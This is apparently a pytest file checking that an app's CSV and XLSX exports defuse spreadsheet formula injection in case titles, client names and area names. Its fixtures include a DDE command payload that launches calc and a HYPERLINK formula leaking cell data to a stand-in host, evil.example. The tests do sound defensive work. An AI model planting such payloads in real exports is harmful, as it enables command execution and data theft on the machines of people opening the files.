"""Every CSV/XLSX export is safe to open in Excel: typed formulas come out as text, numbers stay numbers.

Each export is fed text a user could type (a case title, a client's name, a referrer, an area name) that a
spreadsheet would run or follow (``=cmd|' /C calc'!A0``, ``=HYPERLINK(...)``). Written raw, Excel evaluates
the CSV cell and openpyxl writes ``<f>…</f>`` into the XLSX; neutralised, it starts with an apostrophe and is
a plain string.
"""

from __future__ import annotations

import csv
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from cspdesk.core import exports
from cspdesk.core.figures.months import Period
from cspdesk.core.figures.table import build_comparison_table
from cspdesk.core.services.cases.case_export import export_cases
from cspdesk.core.services.cases.case_list import CaseQuery
from cspdesk.core.services.figures.figures import FiguresService
from cspdesk.core.services.figures.figures_local import LocalBreakdown, LsoaCount
from cspdesk.core.services.safer_homes.safer_homes_read import ReferralQuery
from tests.core.case_helpers import open_case
from tests.core.test_safer_homes_service import IDVA, burglary_form

CALC = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
HOSTILE = [CALC, LINK, "+1+cmd", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]
YEAR = Period.of_year("2022-01", "2022-12")


def _csv_cells(path: Path, encoding: str = "utf-8-sig") -> list[list[str]]:
    with path.open(encoding=encoding, newline="") as handle:
        return list(csv.reader(handle))


def _xlsx_cells(path: Path) -> list[list]:
    sheet = load_workbook(path).active
    return [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]


def _assert_no_raw_formula(cells) -> None:
    for row in cells:
        for cell in row:
            value, kind = cell if isinstance(cell, tuple) else (cell, "s")
            assert kind != "f", f"{value!r} was written as a formula"
            if isinstance(value, str):
                assert not value.startswith(exports.FORMULA_STARTS), f"{value!r} reaches the sheet raw"


# --- the shared writer -------------------------------------------------------------------------------


@pytest.mark.parametrize("typed", HOSTILE)
def test_neutralise_puts_an_apostrophe_before_anything_a_spreadsheet_would_evaluate(typed):
    """Catches: a starting character missing from FORMULA_STARTS (mutation: drop "@" or "\\t")."""
    assert exports.neutralise(typed) == "'" + typed


def test_numbers_and_ordinary_text_are_left_alone():
    """Catches: neutralising numbers (a negative count or trend would become text in Excel)."""
    assert exports.neutralise(-5) == -5 and exports.neutralise(Decimal("-12.5")) == Decimal("-12.5")
    assert exports.neutralise("South Derbyshire") == "South Derbyshire"
    assert exports.csv_text(["n", "trend"], [[-5, exports.number_1dp(-12.46)]]) == "n,trend\n-5,-12.5\n"


def test_xlsx_text_is_a_string_and_numbers_stay_numbers(tmp_path):
    """Catches: a text cell written as a formula (mutation: drop neutralise in xlsx_cell)."""
    book, sheet = exports.new_workbook("Hostile")
    exports.append_row(sheet, [*HOSTILE, -7, exports.number_1dp(-3.25)])
    exports.save_workbook(book, tmp_path / "h.xlsx")
    (row,) = _xlsx_cells(tmp_path / "h.xlsx")
    # (XML reads a carriage return back as a line feed.)
    assert [v for v, _t in row[: len(HOSTILE)]] == ["'" + h.replace("\r", "\n") for h in HOSTILE]
    assert all(t == "s" for _v, t in row[: len(HOSTILE)])
    assert row[-2:] == [(-7, "n"), (-3.2, "n")]


@pytest.mark.parametrize(
    ("title", "taken", "expected"),
    [
        ("Theft/Robbery", (), "Theft-Robbery"),
        ("a[b]c:d*e?f\\g", (), "a-b-c-d-e-f-g"),
        ("x" * 40, (), "x" * 31),
        ("Cases", ("cases",), "Cases (2)"),
        ("'quoted'", (), "quoted"),
        ("   ", (), "Sheet"),
    ],
)
def test_sheet_titles_are_ones_excel_accepts(title, taken, expected):
    """Catches: openpyxl's "Invalid character / found in sheet title" crash and duplicate titles."""
    assert exports.sheet_title(title, taken) == expected


# --- every export ------------------------------------------------------------------------------------


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_case_list_export_neutralises_a_typed_title(services, tmp_path, suffix):
    """Catches: the case list export writing a title raw (mutation: csv.writer
    / ws.append without exports)."""
    open_case(services, title=CALC)
    open_case(services, title=LINK)
    ids = services.case_list.case_ids(CaseQuery(sort="reference", descending=False))
    target = tmp_path / f"cases{suffix}"
    assert export_cases(services.case_list, ids, target) == 2
    if suffix == ".csv":
        cells = _csv_cells(target)
        titles = [r[1] for r in cells[1:]]
    else:
        cells = _xlsx_cells(target)
        titles = [r[1][0] for r in cells[1:]]
    assert sorted(titles) == sorted(["'" + CALC, "'" + LINK])
    _assert_no_raw_formula(cells)


def test_safer_homes_csvs_neutralise_client_and_referrer(services, tmp_path):
    """Catches: the referral list or the partner list writing a typed name raw."""
    services.safer_homes.intake(
        services.actor, burglary_form(client_name=CALC, referrer_name=LINK, referrer_agency=IDVA)
    )
    listed = tmp_path / "list.csv"
    services.safer_homes_outputs.export_csv(services.actor, ReferralQuery(), listed)
    cells = _csv_cells(listed)
    assert cells[1][2] == "'" + CALC
    _assert_no_raw_formula(cells)
    partner = tmp_path / "partner.csv"
    assert services.safer_homes_outputs.export_partner_list(services.actor, IDVA, partner) == 1
    cells = _csv_cells(partner)
    assert cells[1][1] == "'" + LINK and cells[1][3] == "'" + CALC
    _assert_no_raw_formula(cells)


def _hostile_table(category: str = "Theft/Robbery"):
    counts = [
        (area, f"{year}-{m:02d}", n)
        for year, n in ((2021, 10), (2022, 5))
        for area in (CALC, LINK, "Erewash")
        for m in range(1, 13)
    ]
    return build_comparison_table(category, YEAR, counts, {CALC: 1000, LINK: 2000, "Erewash": 3000})


def test_district_table_csv_neutralises_area_names_and_keeps_negative_trends_numeric(tmp_path):
    """Catches: area names written raw, and a negative trend written as text (it would gain an apostrophe)."""
    path = FiguresService.export_table(_hostile_table(), tmp_path / "t.csv")
    cells = _csv_cells(path, encoding="utf-8")
    areas = {r[0] for r in cells[1:]}
    assert {"'" + CALC, "'" + LINK} <= areas
    _assert_no_raw_formula([[c for c in r if not c.startswith("-")] for r in cells])
    assert all(r[3] == "-50.0" for r in cells[1:])  # 10 a month, then 5: a number Excel can sum


def test_district_table_xlsx_for_a_category_with_a_slash_and_typed_formulas(tmp_path):
    """Catches: "Invalid character / found in sheet title" and an area written as <f>…</f>."""
    path = FiguresService.export_table(_hostile_table(), tmp_path / "t.xlsx")
    book = load_workbook(path)
    assert book.active.title == "Theft-Robbery"
    cells = _xlsx_cells(path)
    assert {"'" + CALC, "'" + LINK} <= {r[0][0] for r in cells}
    assert all(row[3] == (-0.5, "n") for row in cells[1:4])
    _assert_no_raw_formula(cells)


def test_lsoa_csv_neutralises_names_from_a_police_uk_file(tmp_path):
    """Catches: an LSOA or location name from an imported file written raw; change stays a number."""
    local = LocalBreakdown(
        district="South Derbyshire",
        crime_type="Anti-social behaviour",
        period=YEAR,
        total=3,
        lsoas=(LsoaCount(CALC, LINK, 3, 4, Decimal("-25.0")),),
        locations=(),
        points=(),
        months_held=(),
        comparable=True,
    )
    path = FiguresService.export_lsoa_csv(local, tmp_path / "lsoa.csv")
    cells = _csv_cells(path, encoding="utf-8")
    assert cells[1] == ["'" + CALC, "'" + LINK, "3", "4", "-25.0"]
